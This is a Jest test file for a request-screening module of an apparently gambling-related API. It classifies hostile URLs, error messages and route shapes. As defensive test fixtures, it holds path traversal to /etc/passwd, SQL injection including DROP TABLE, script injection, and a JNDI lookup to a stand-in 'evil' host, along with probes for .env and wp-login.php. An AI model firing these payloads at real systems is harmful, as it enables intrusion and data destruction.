import { hostilePattern, rejectionKind } from './warden-rules';
import { routeOf } from './warden';

describe('warden rules', () => {
  it.each([
    ['/api/users/..%2F..%2Fetc%2Fpasswd', 'path-traversal'],
    ['/api/files/../../secret', 'path-traversal'],
    ['/api/x/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'script-injection'],
    ['/api/x?next=javascript:alert(1)', 'script-injection'],
    ["/api/users/1'%20OR%20'1'='1", 'sql-injection'],
    ['/api/users/1%20UNION%20SELECT%20*%20FROM%20sessions', 'sql-injection'],
    ['/api/x?q=1;%20DROP%20TABLE%20users', 'sql-injection'],
    ['/api/x?q=${jndi:ldap://evil/a}', 'template-injection'],
    ['/api/x?q={{7*7}}', 'template-injection'],
    ['/api/.env', 'scanner-probe'],
    ['/api/wp-login.php', 'scanner-probe'],
    ['/api/x%00.json', 'null-byte'],
  ])('recognises %s as %s', (url, pattern) => {
    expect(hostilePattern(url)).toBe(pattern);
  });

  it.each([
    '/api/games/dice',
    '/api/users/GUEST_1763700000000abcdef',
    '/api/bets?limit=20',
    '/api/fairness/paytables',
    '/api/security/sentinel/stats',
  ])('sees nothing hostile in %s', (url) => {
    expect(hostilePattern(url, 'betAmount must be a decimal number like "10" or "0.5"')).toBeNull();
  });

  it.each([
    [400, 'property isAdmin should not exist', 'unknown-field'],
    [400, 'betAmount must be a decimal number like "10" or "0.5"', 'validation'],
    [400, 'Unexpected token } in JSON at position 16', 'malformed-body'],
    [400, "Body cannot be empty when content-type is set to 'application/json'", 'malformed-body'],
    [413, 'Request body is too large', 'oversized-body'],
    [415, 'Unsupported Media Type: text/xml', 'unsupported-media'],
    [404, 'Cannot GET /api/nowhere', 'unknown-route'],
    [404, 'User not found', null],
    [409, 'A hand is already in progress', null],
    [423, 'AMINA play and withdrawals are paused', null],
  ])('classifies %i "%s" as %s', (status, message, kind) => {
    expect(rejectionKind(status, message)).toBe(kind);
  });

  it('folds ids, addresses and hex out of routes so their counts group', () => {
    expect(routeOf('GET', `/api/users/${'A'.repeat(58)}?x=1`)).toBe('GET /api/users/:address');
    expect(routeOf('POST', '/api/users/123/claim-allowance')).toBe('POST /api/users/:id/claim-allowance');
    expect(routeOf('GET', '/api/users/GUEST_17637abc')).toBe('GET /api/users/:guest');
    expect(routeOf('GET', `/api/bets/${'ab'.repeat(16)}`)).toBe('GET /api/bets/:hex');
  });
});
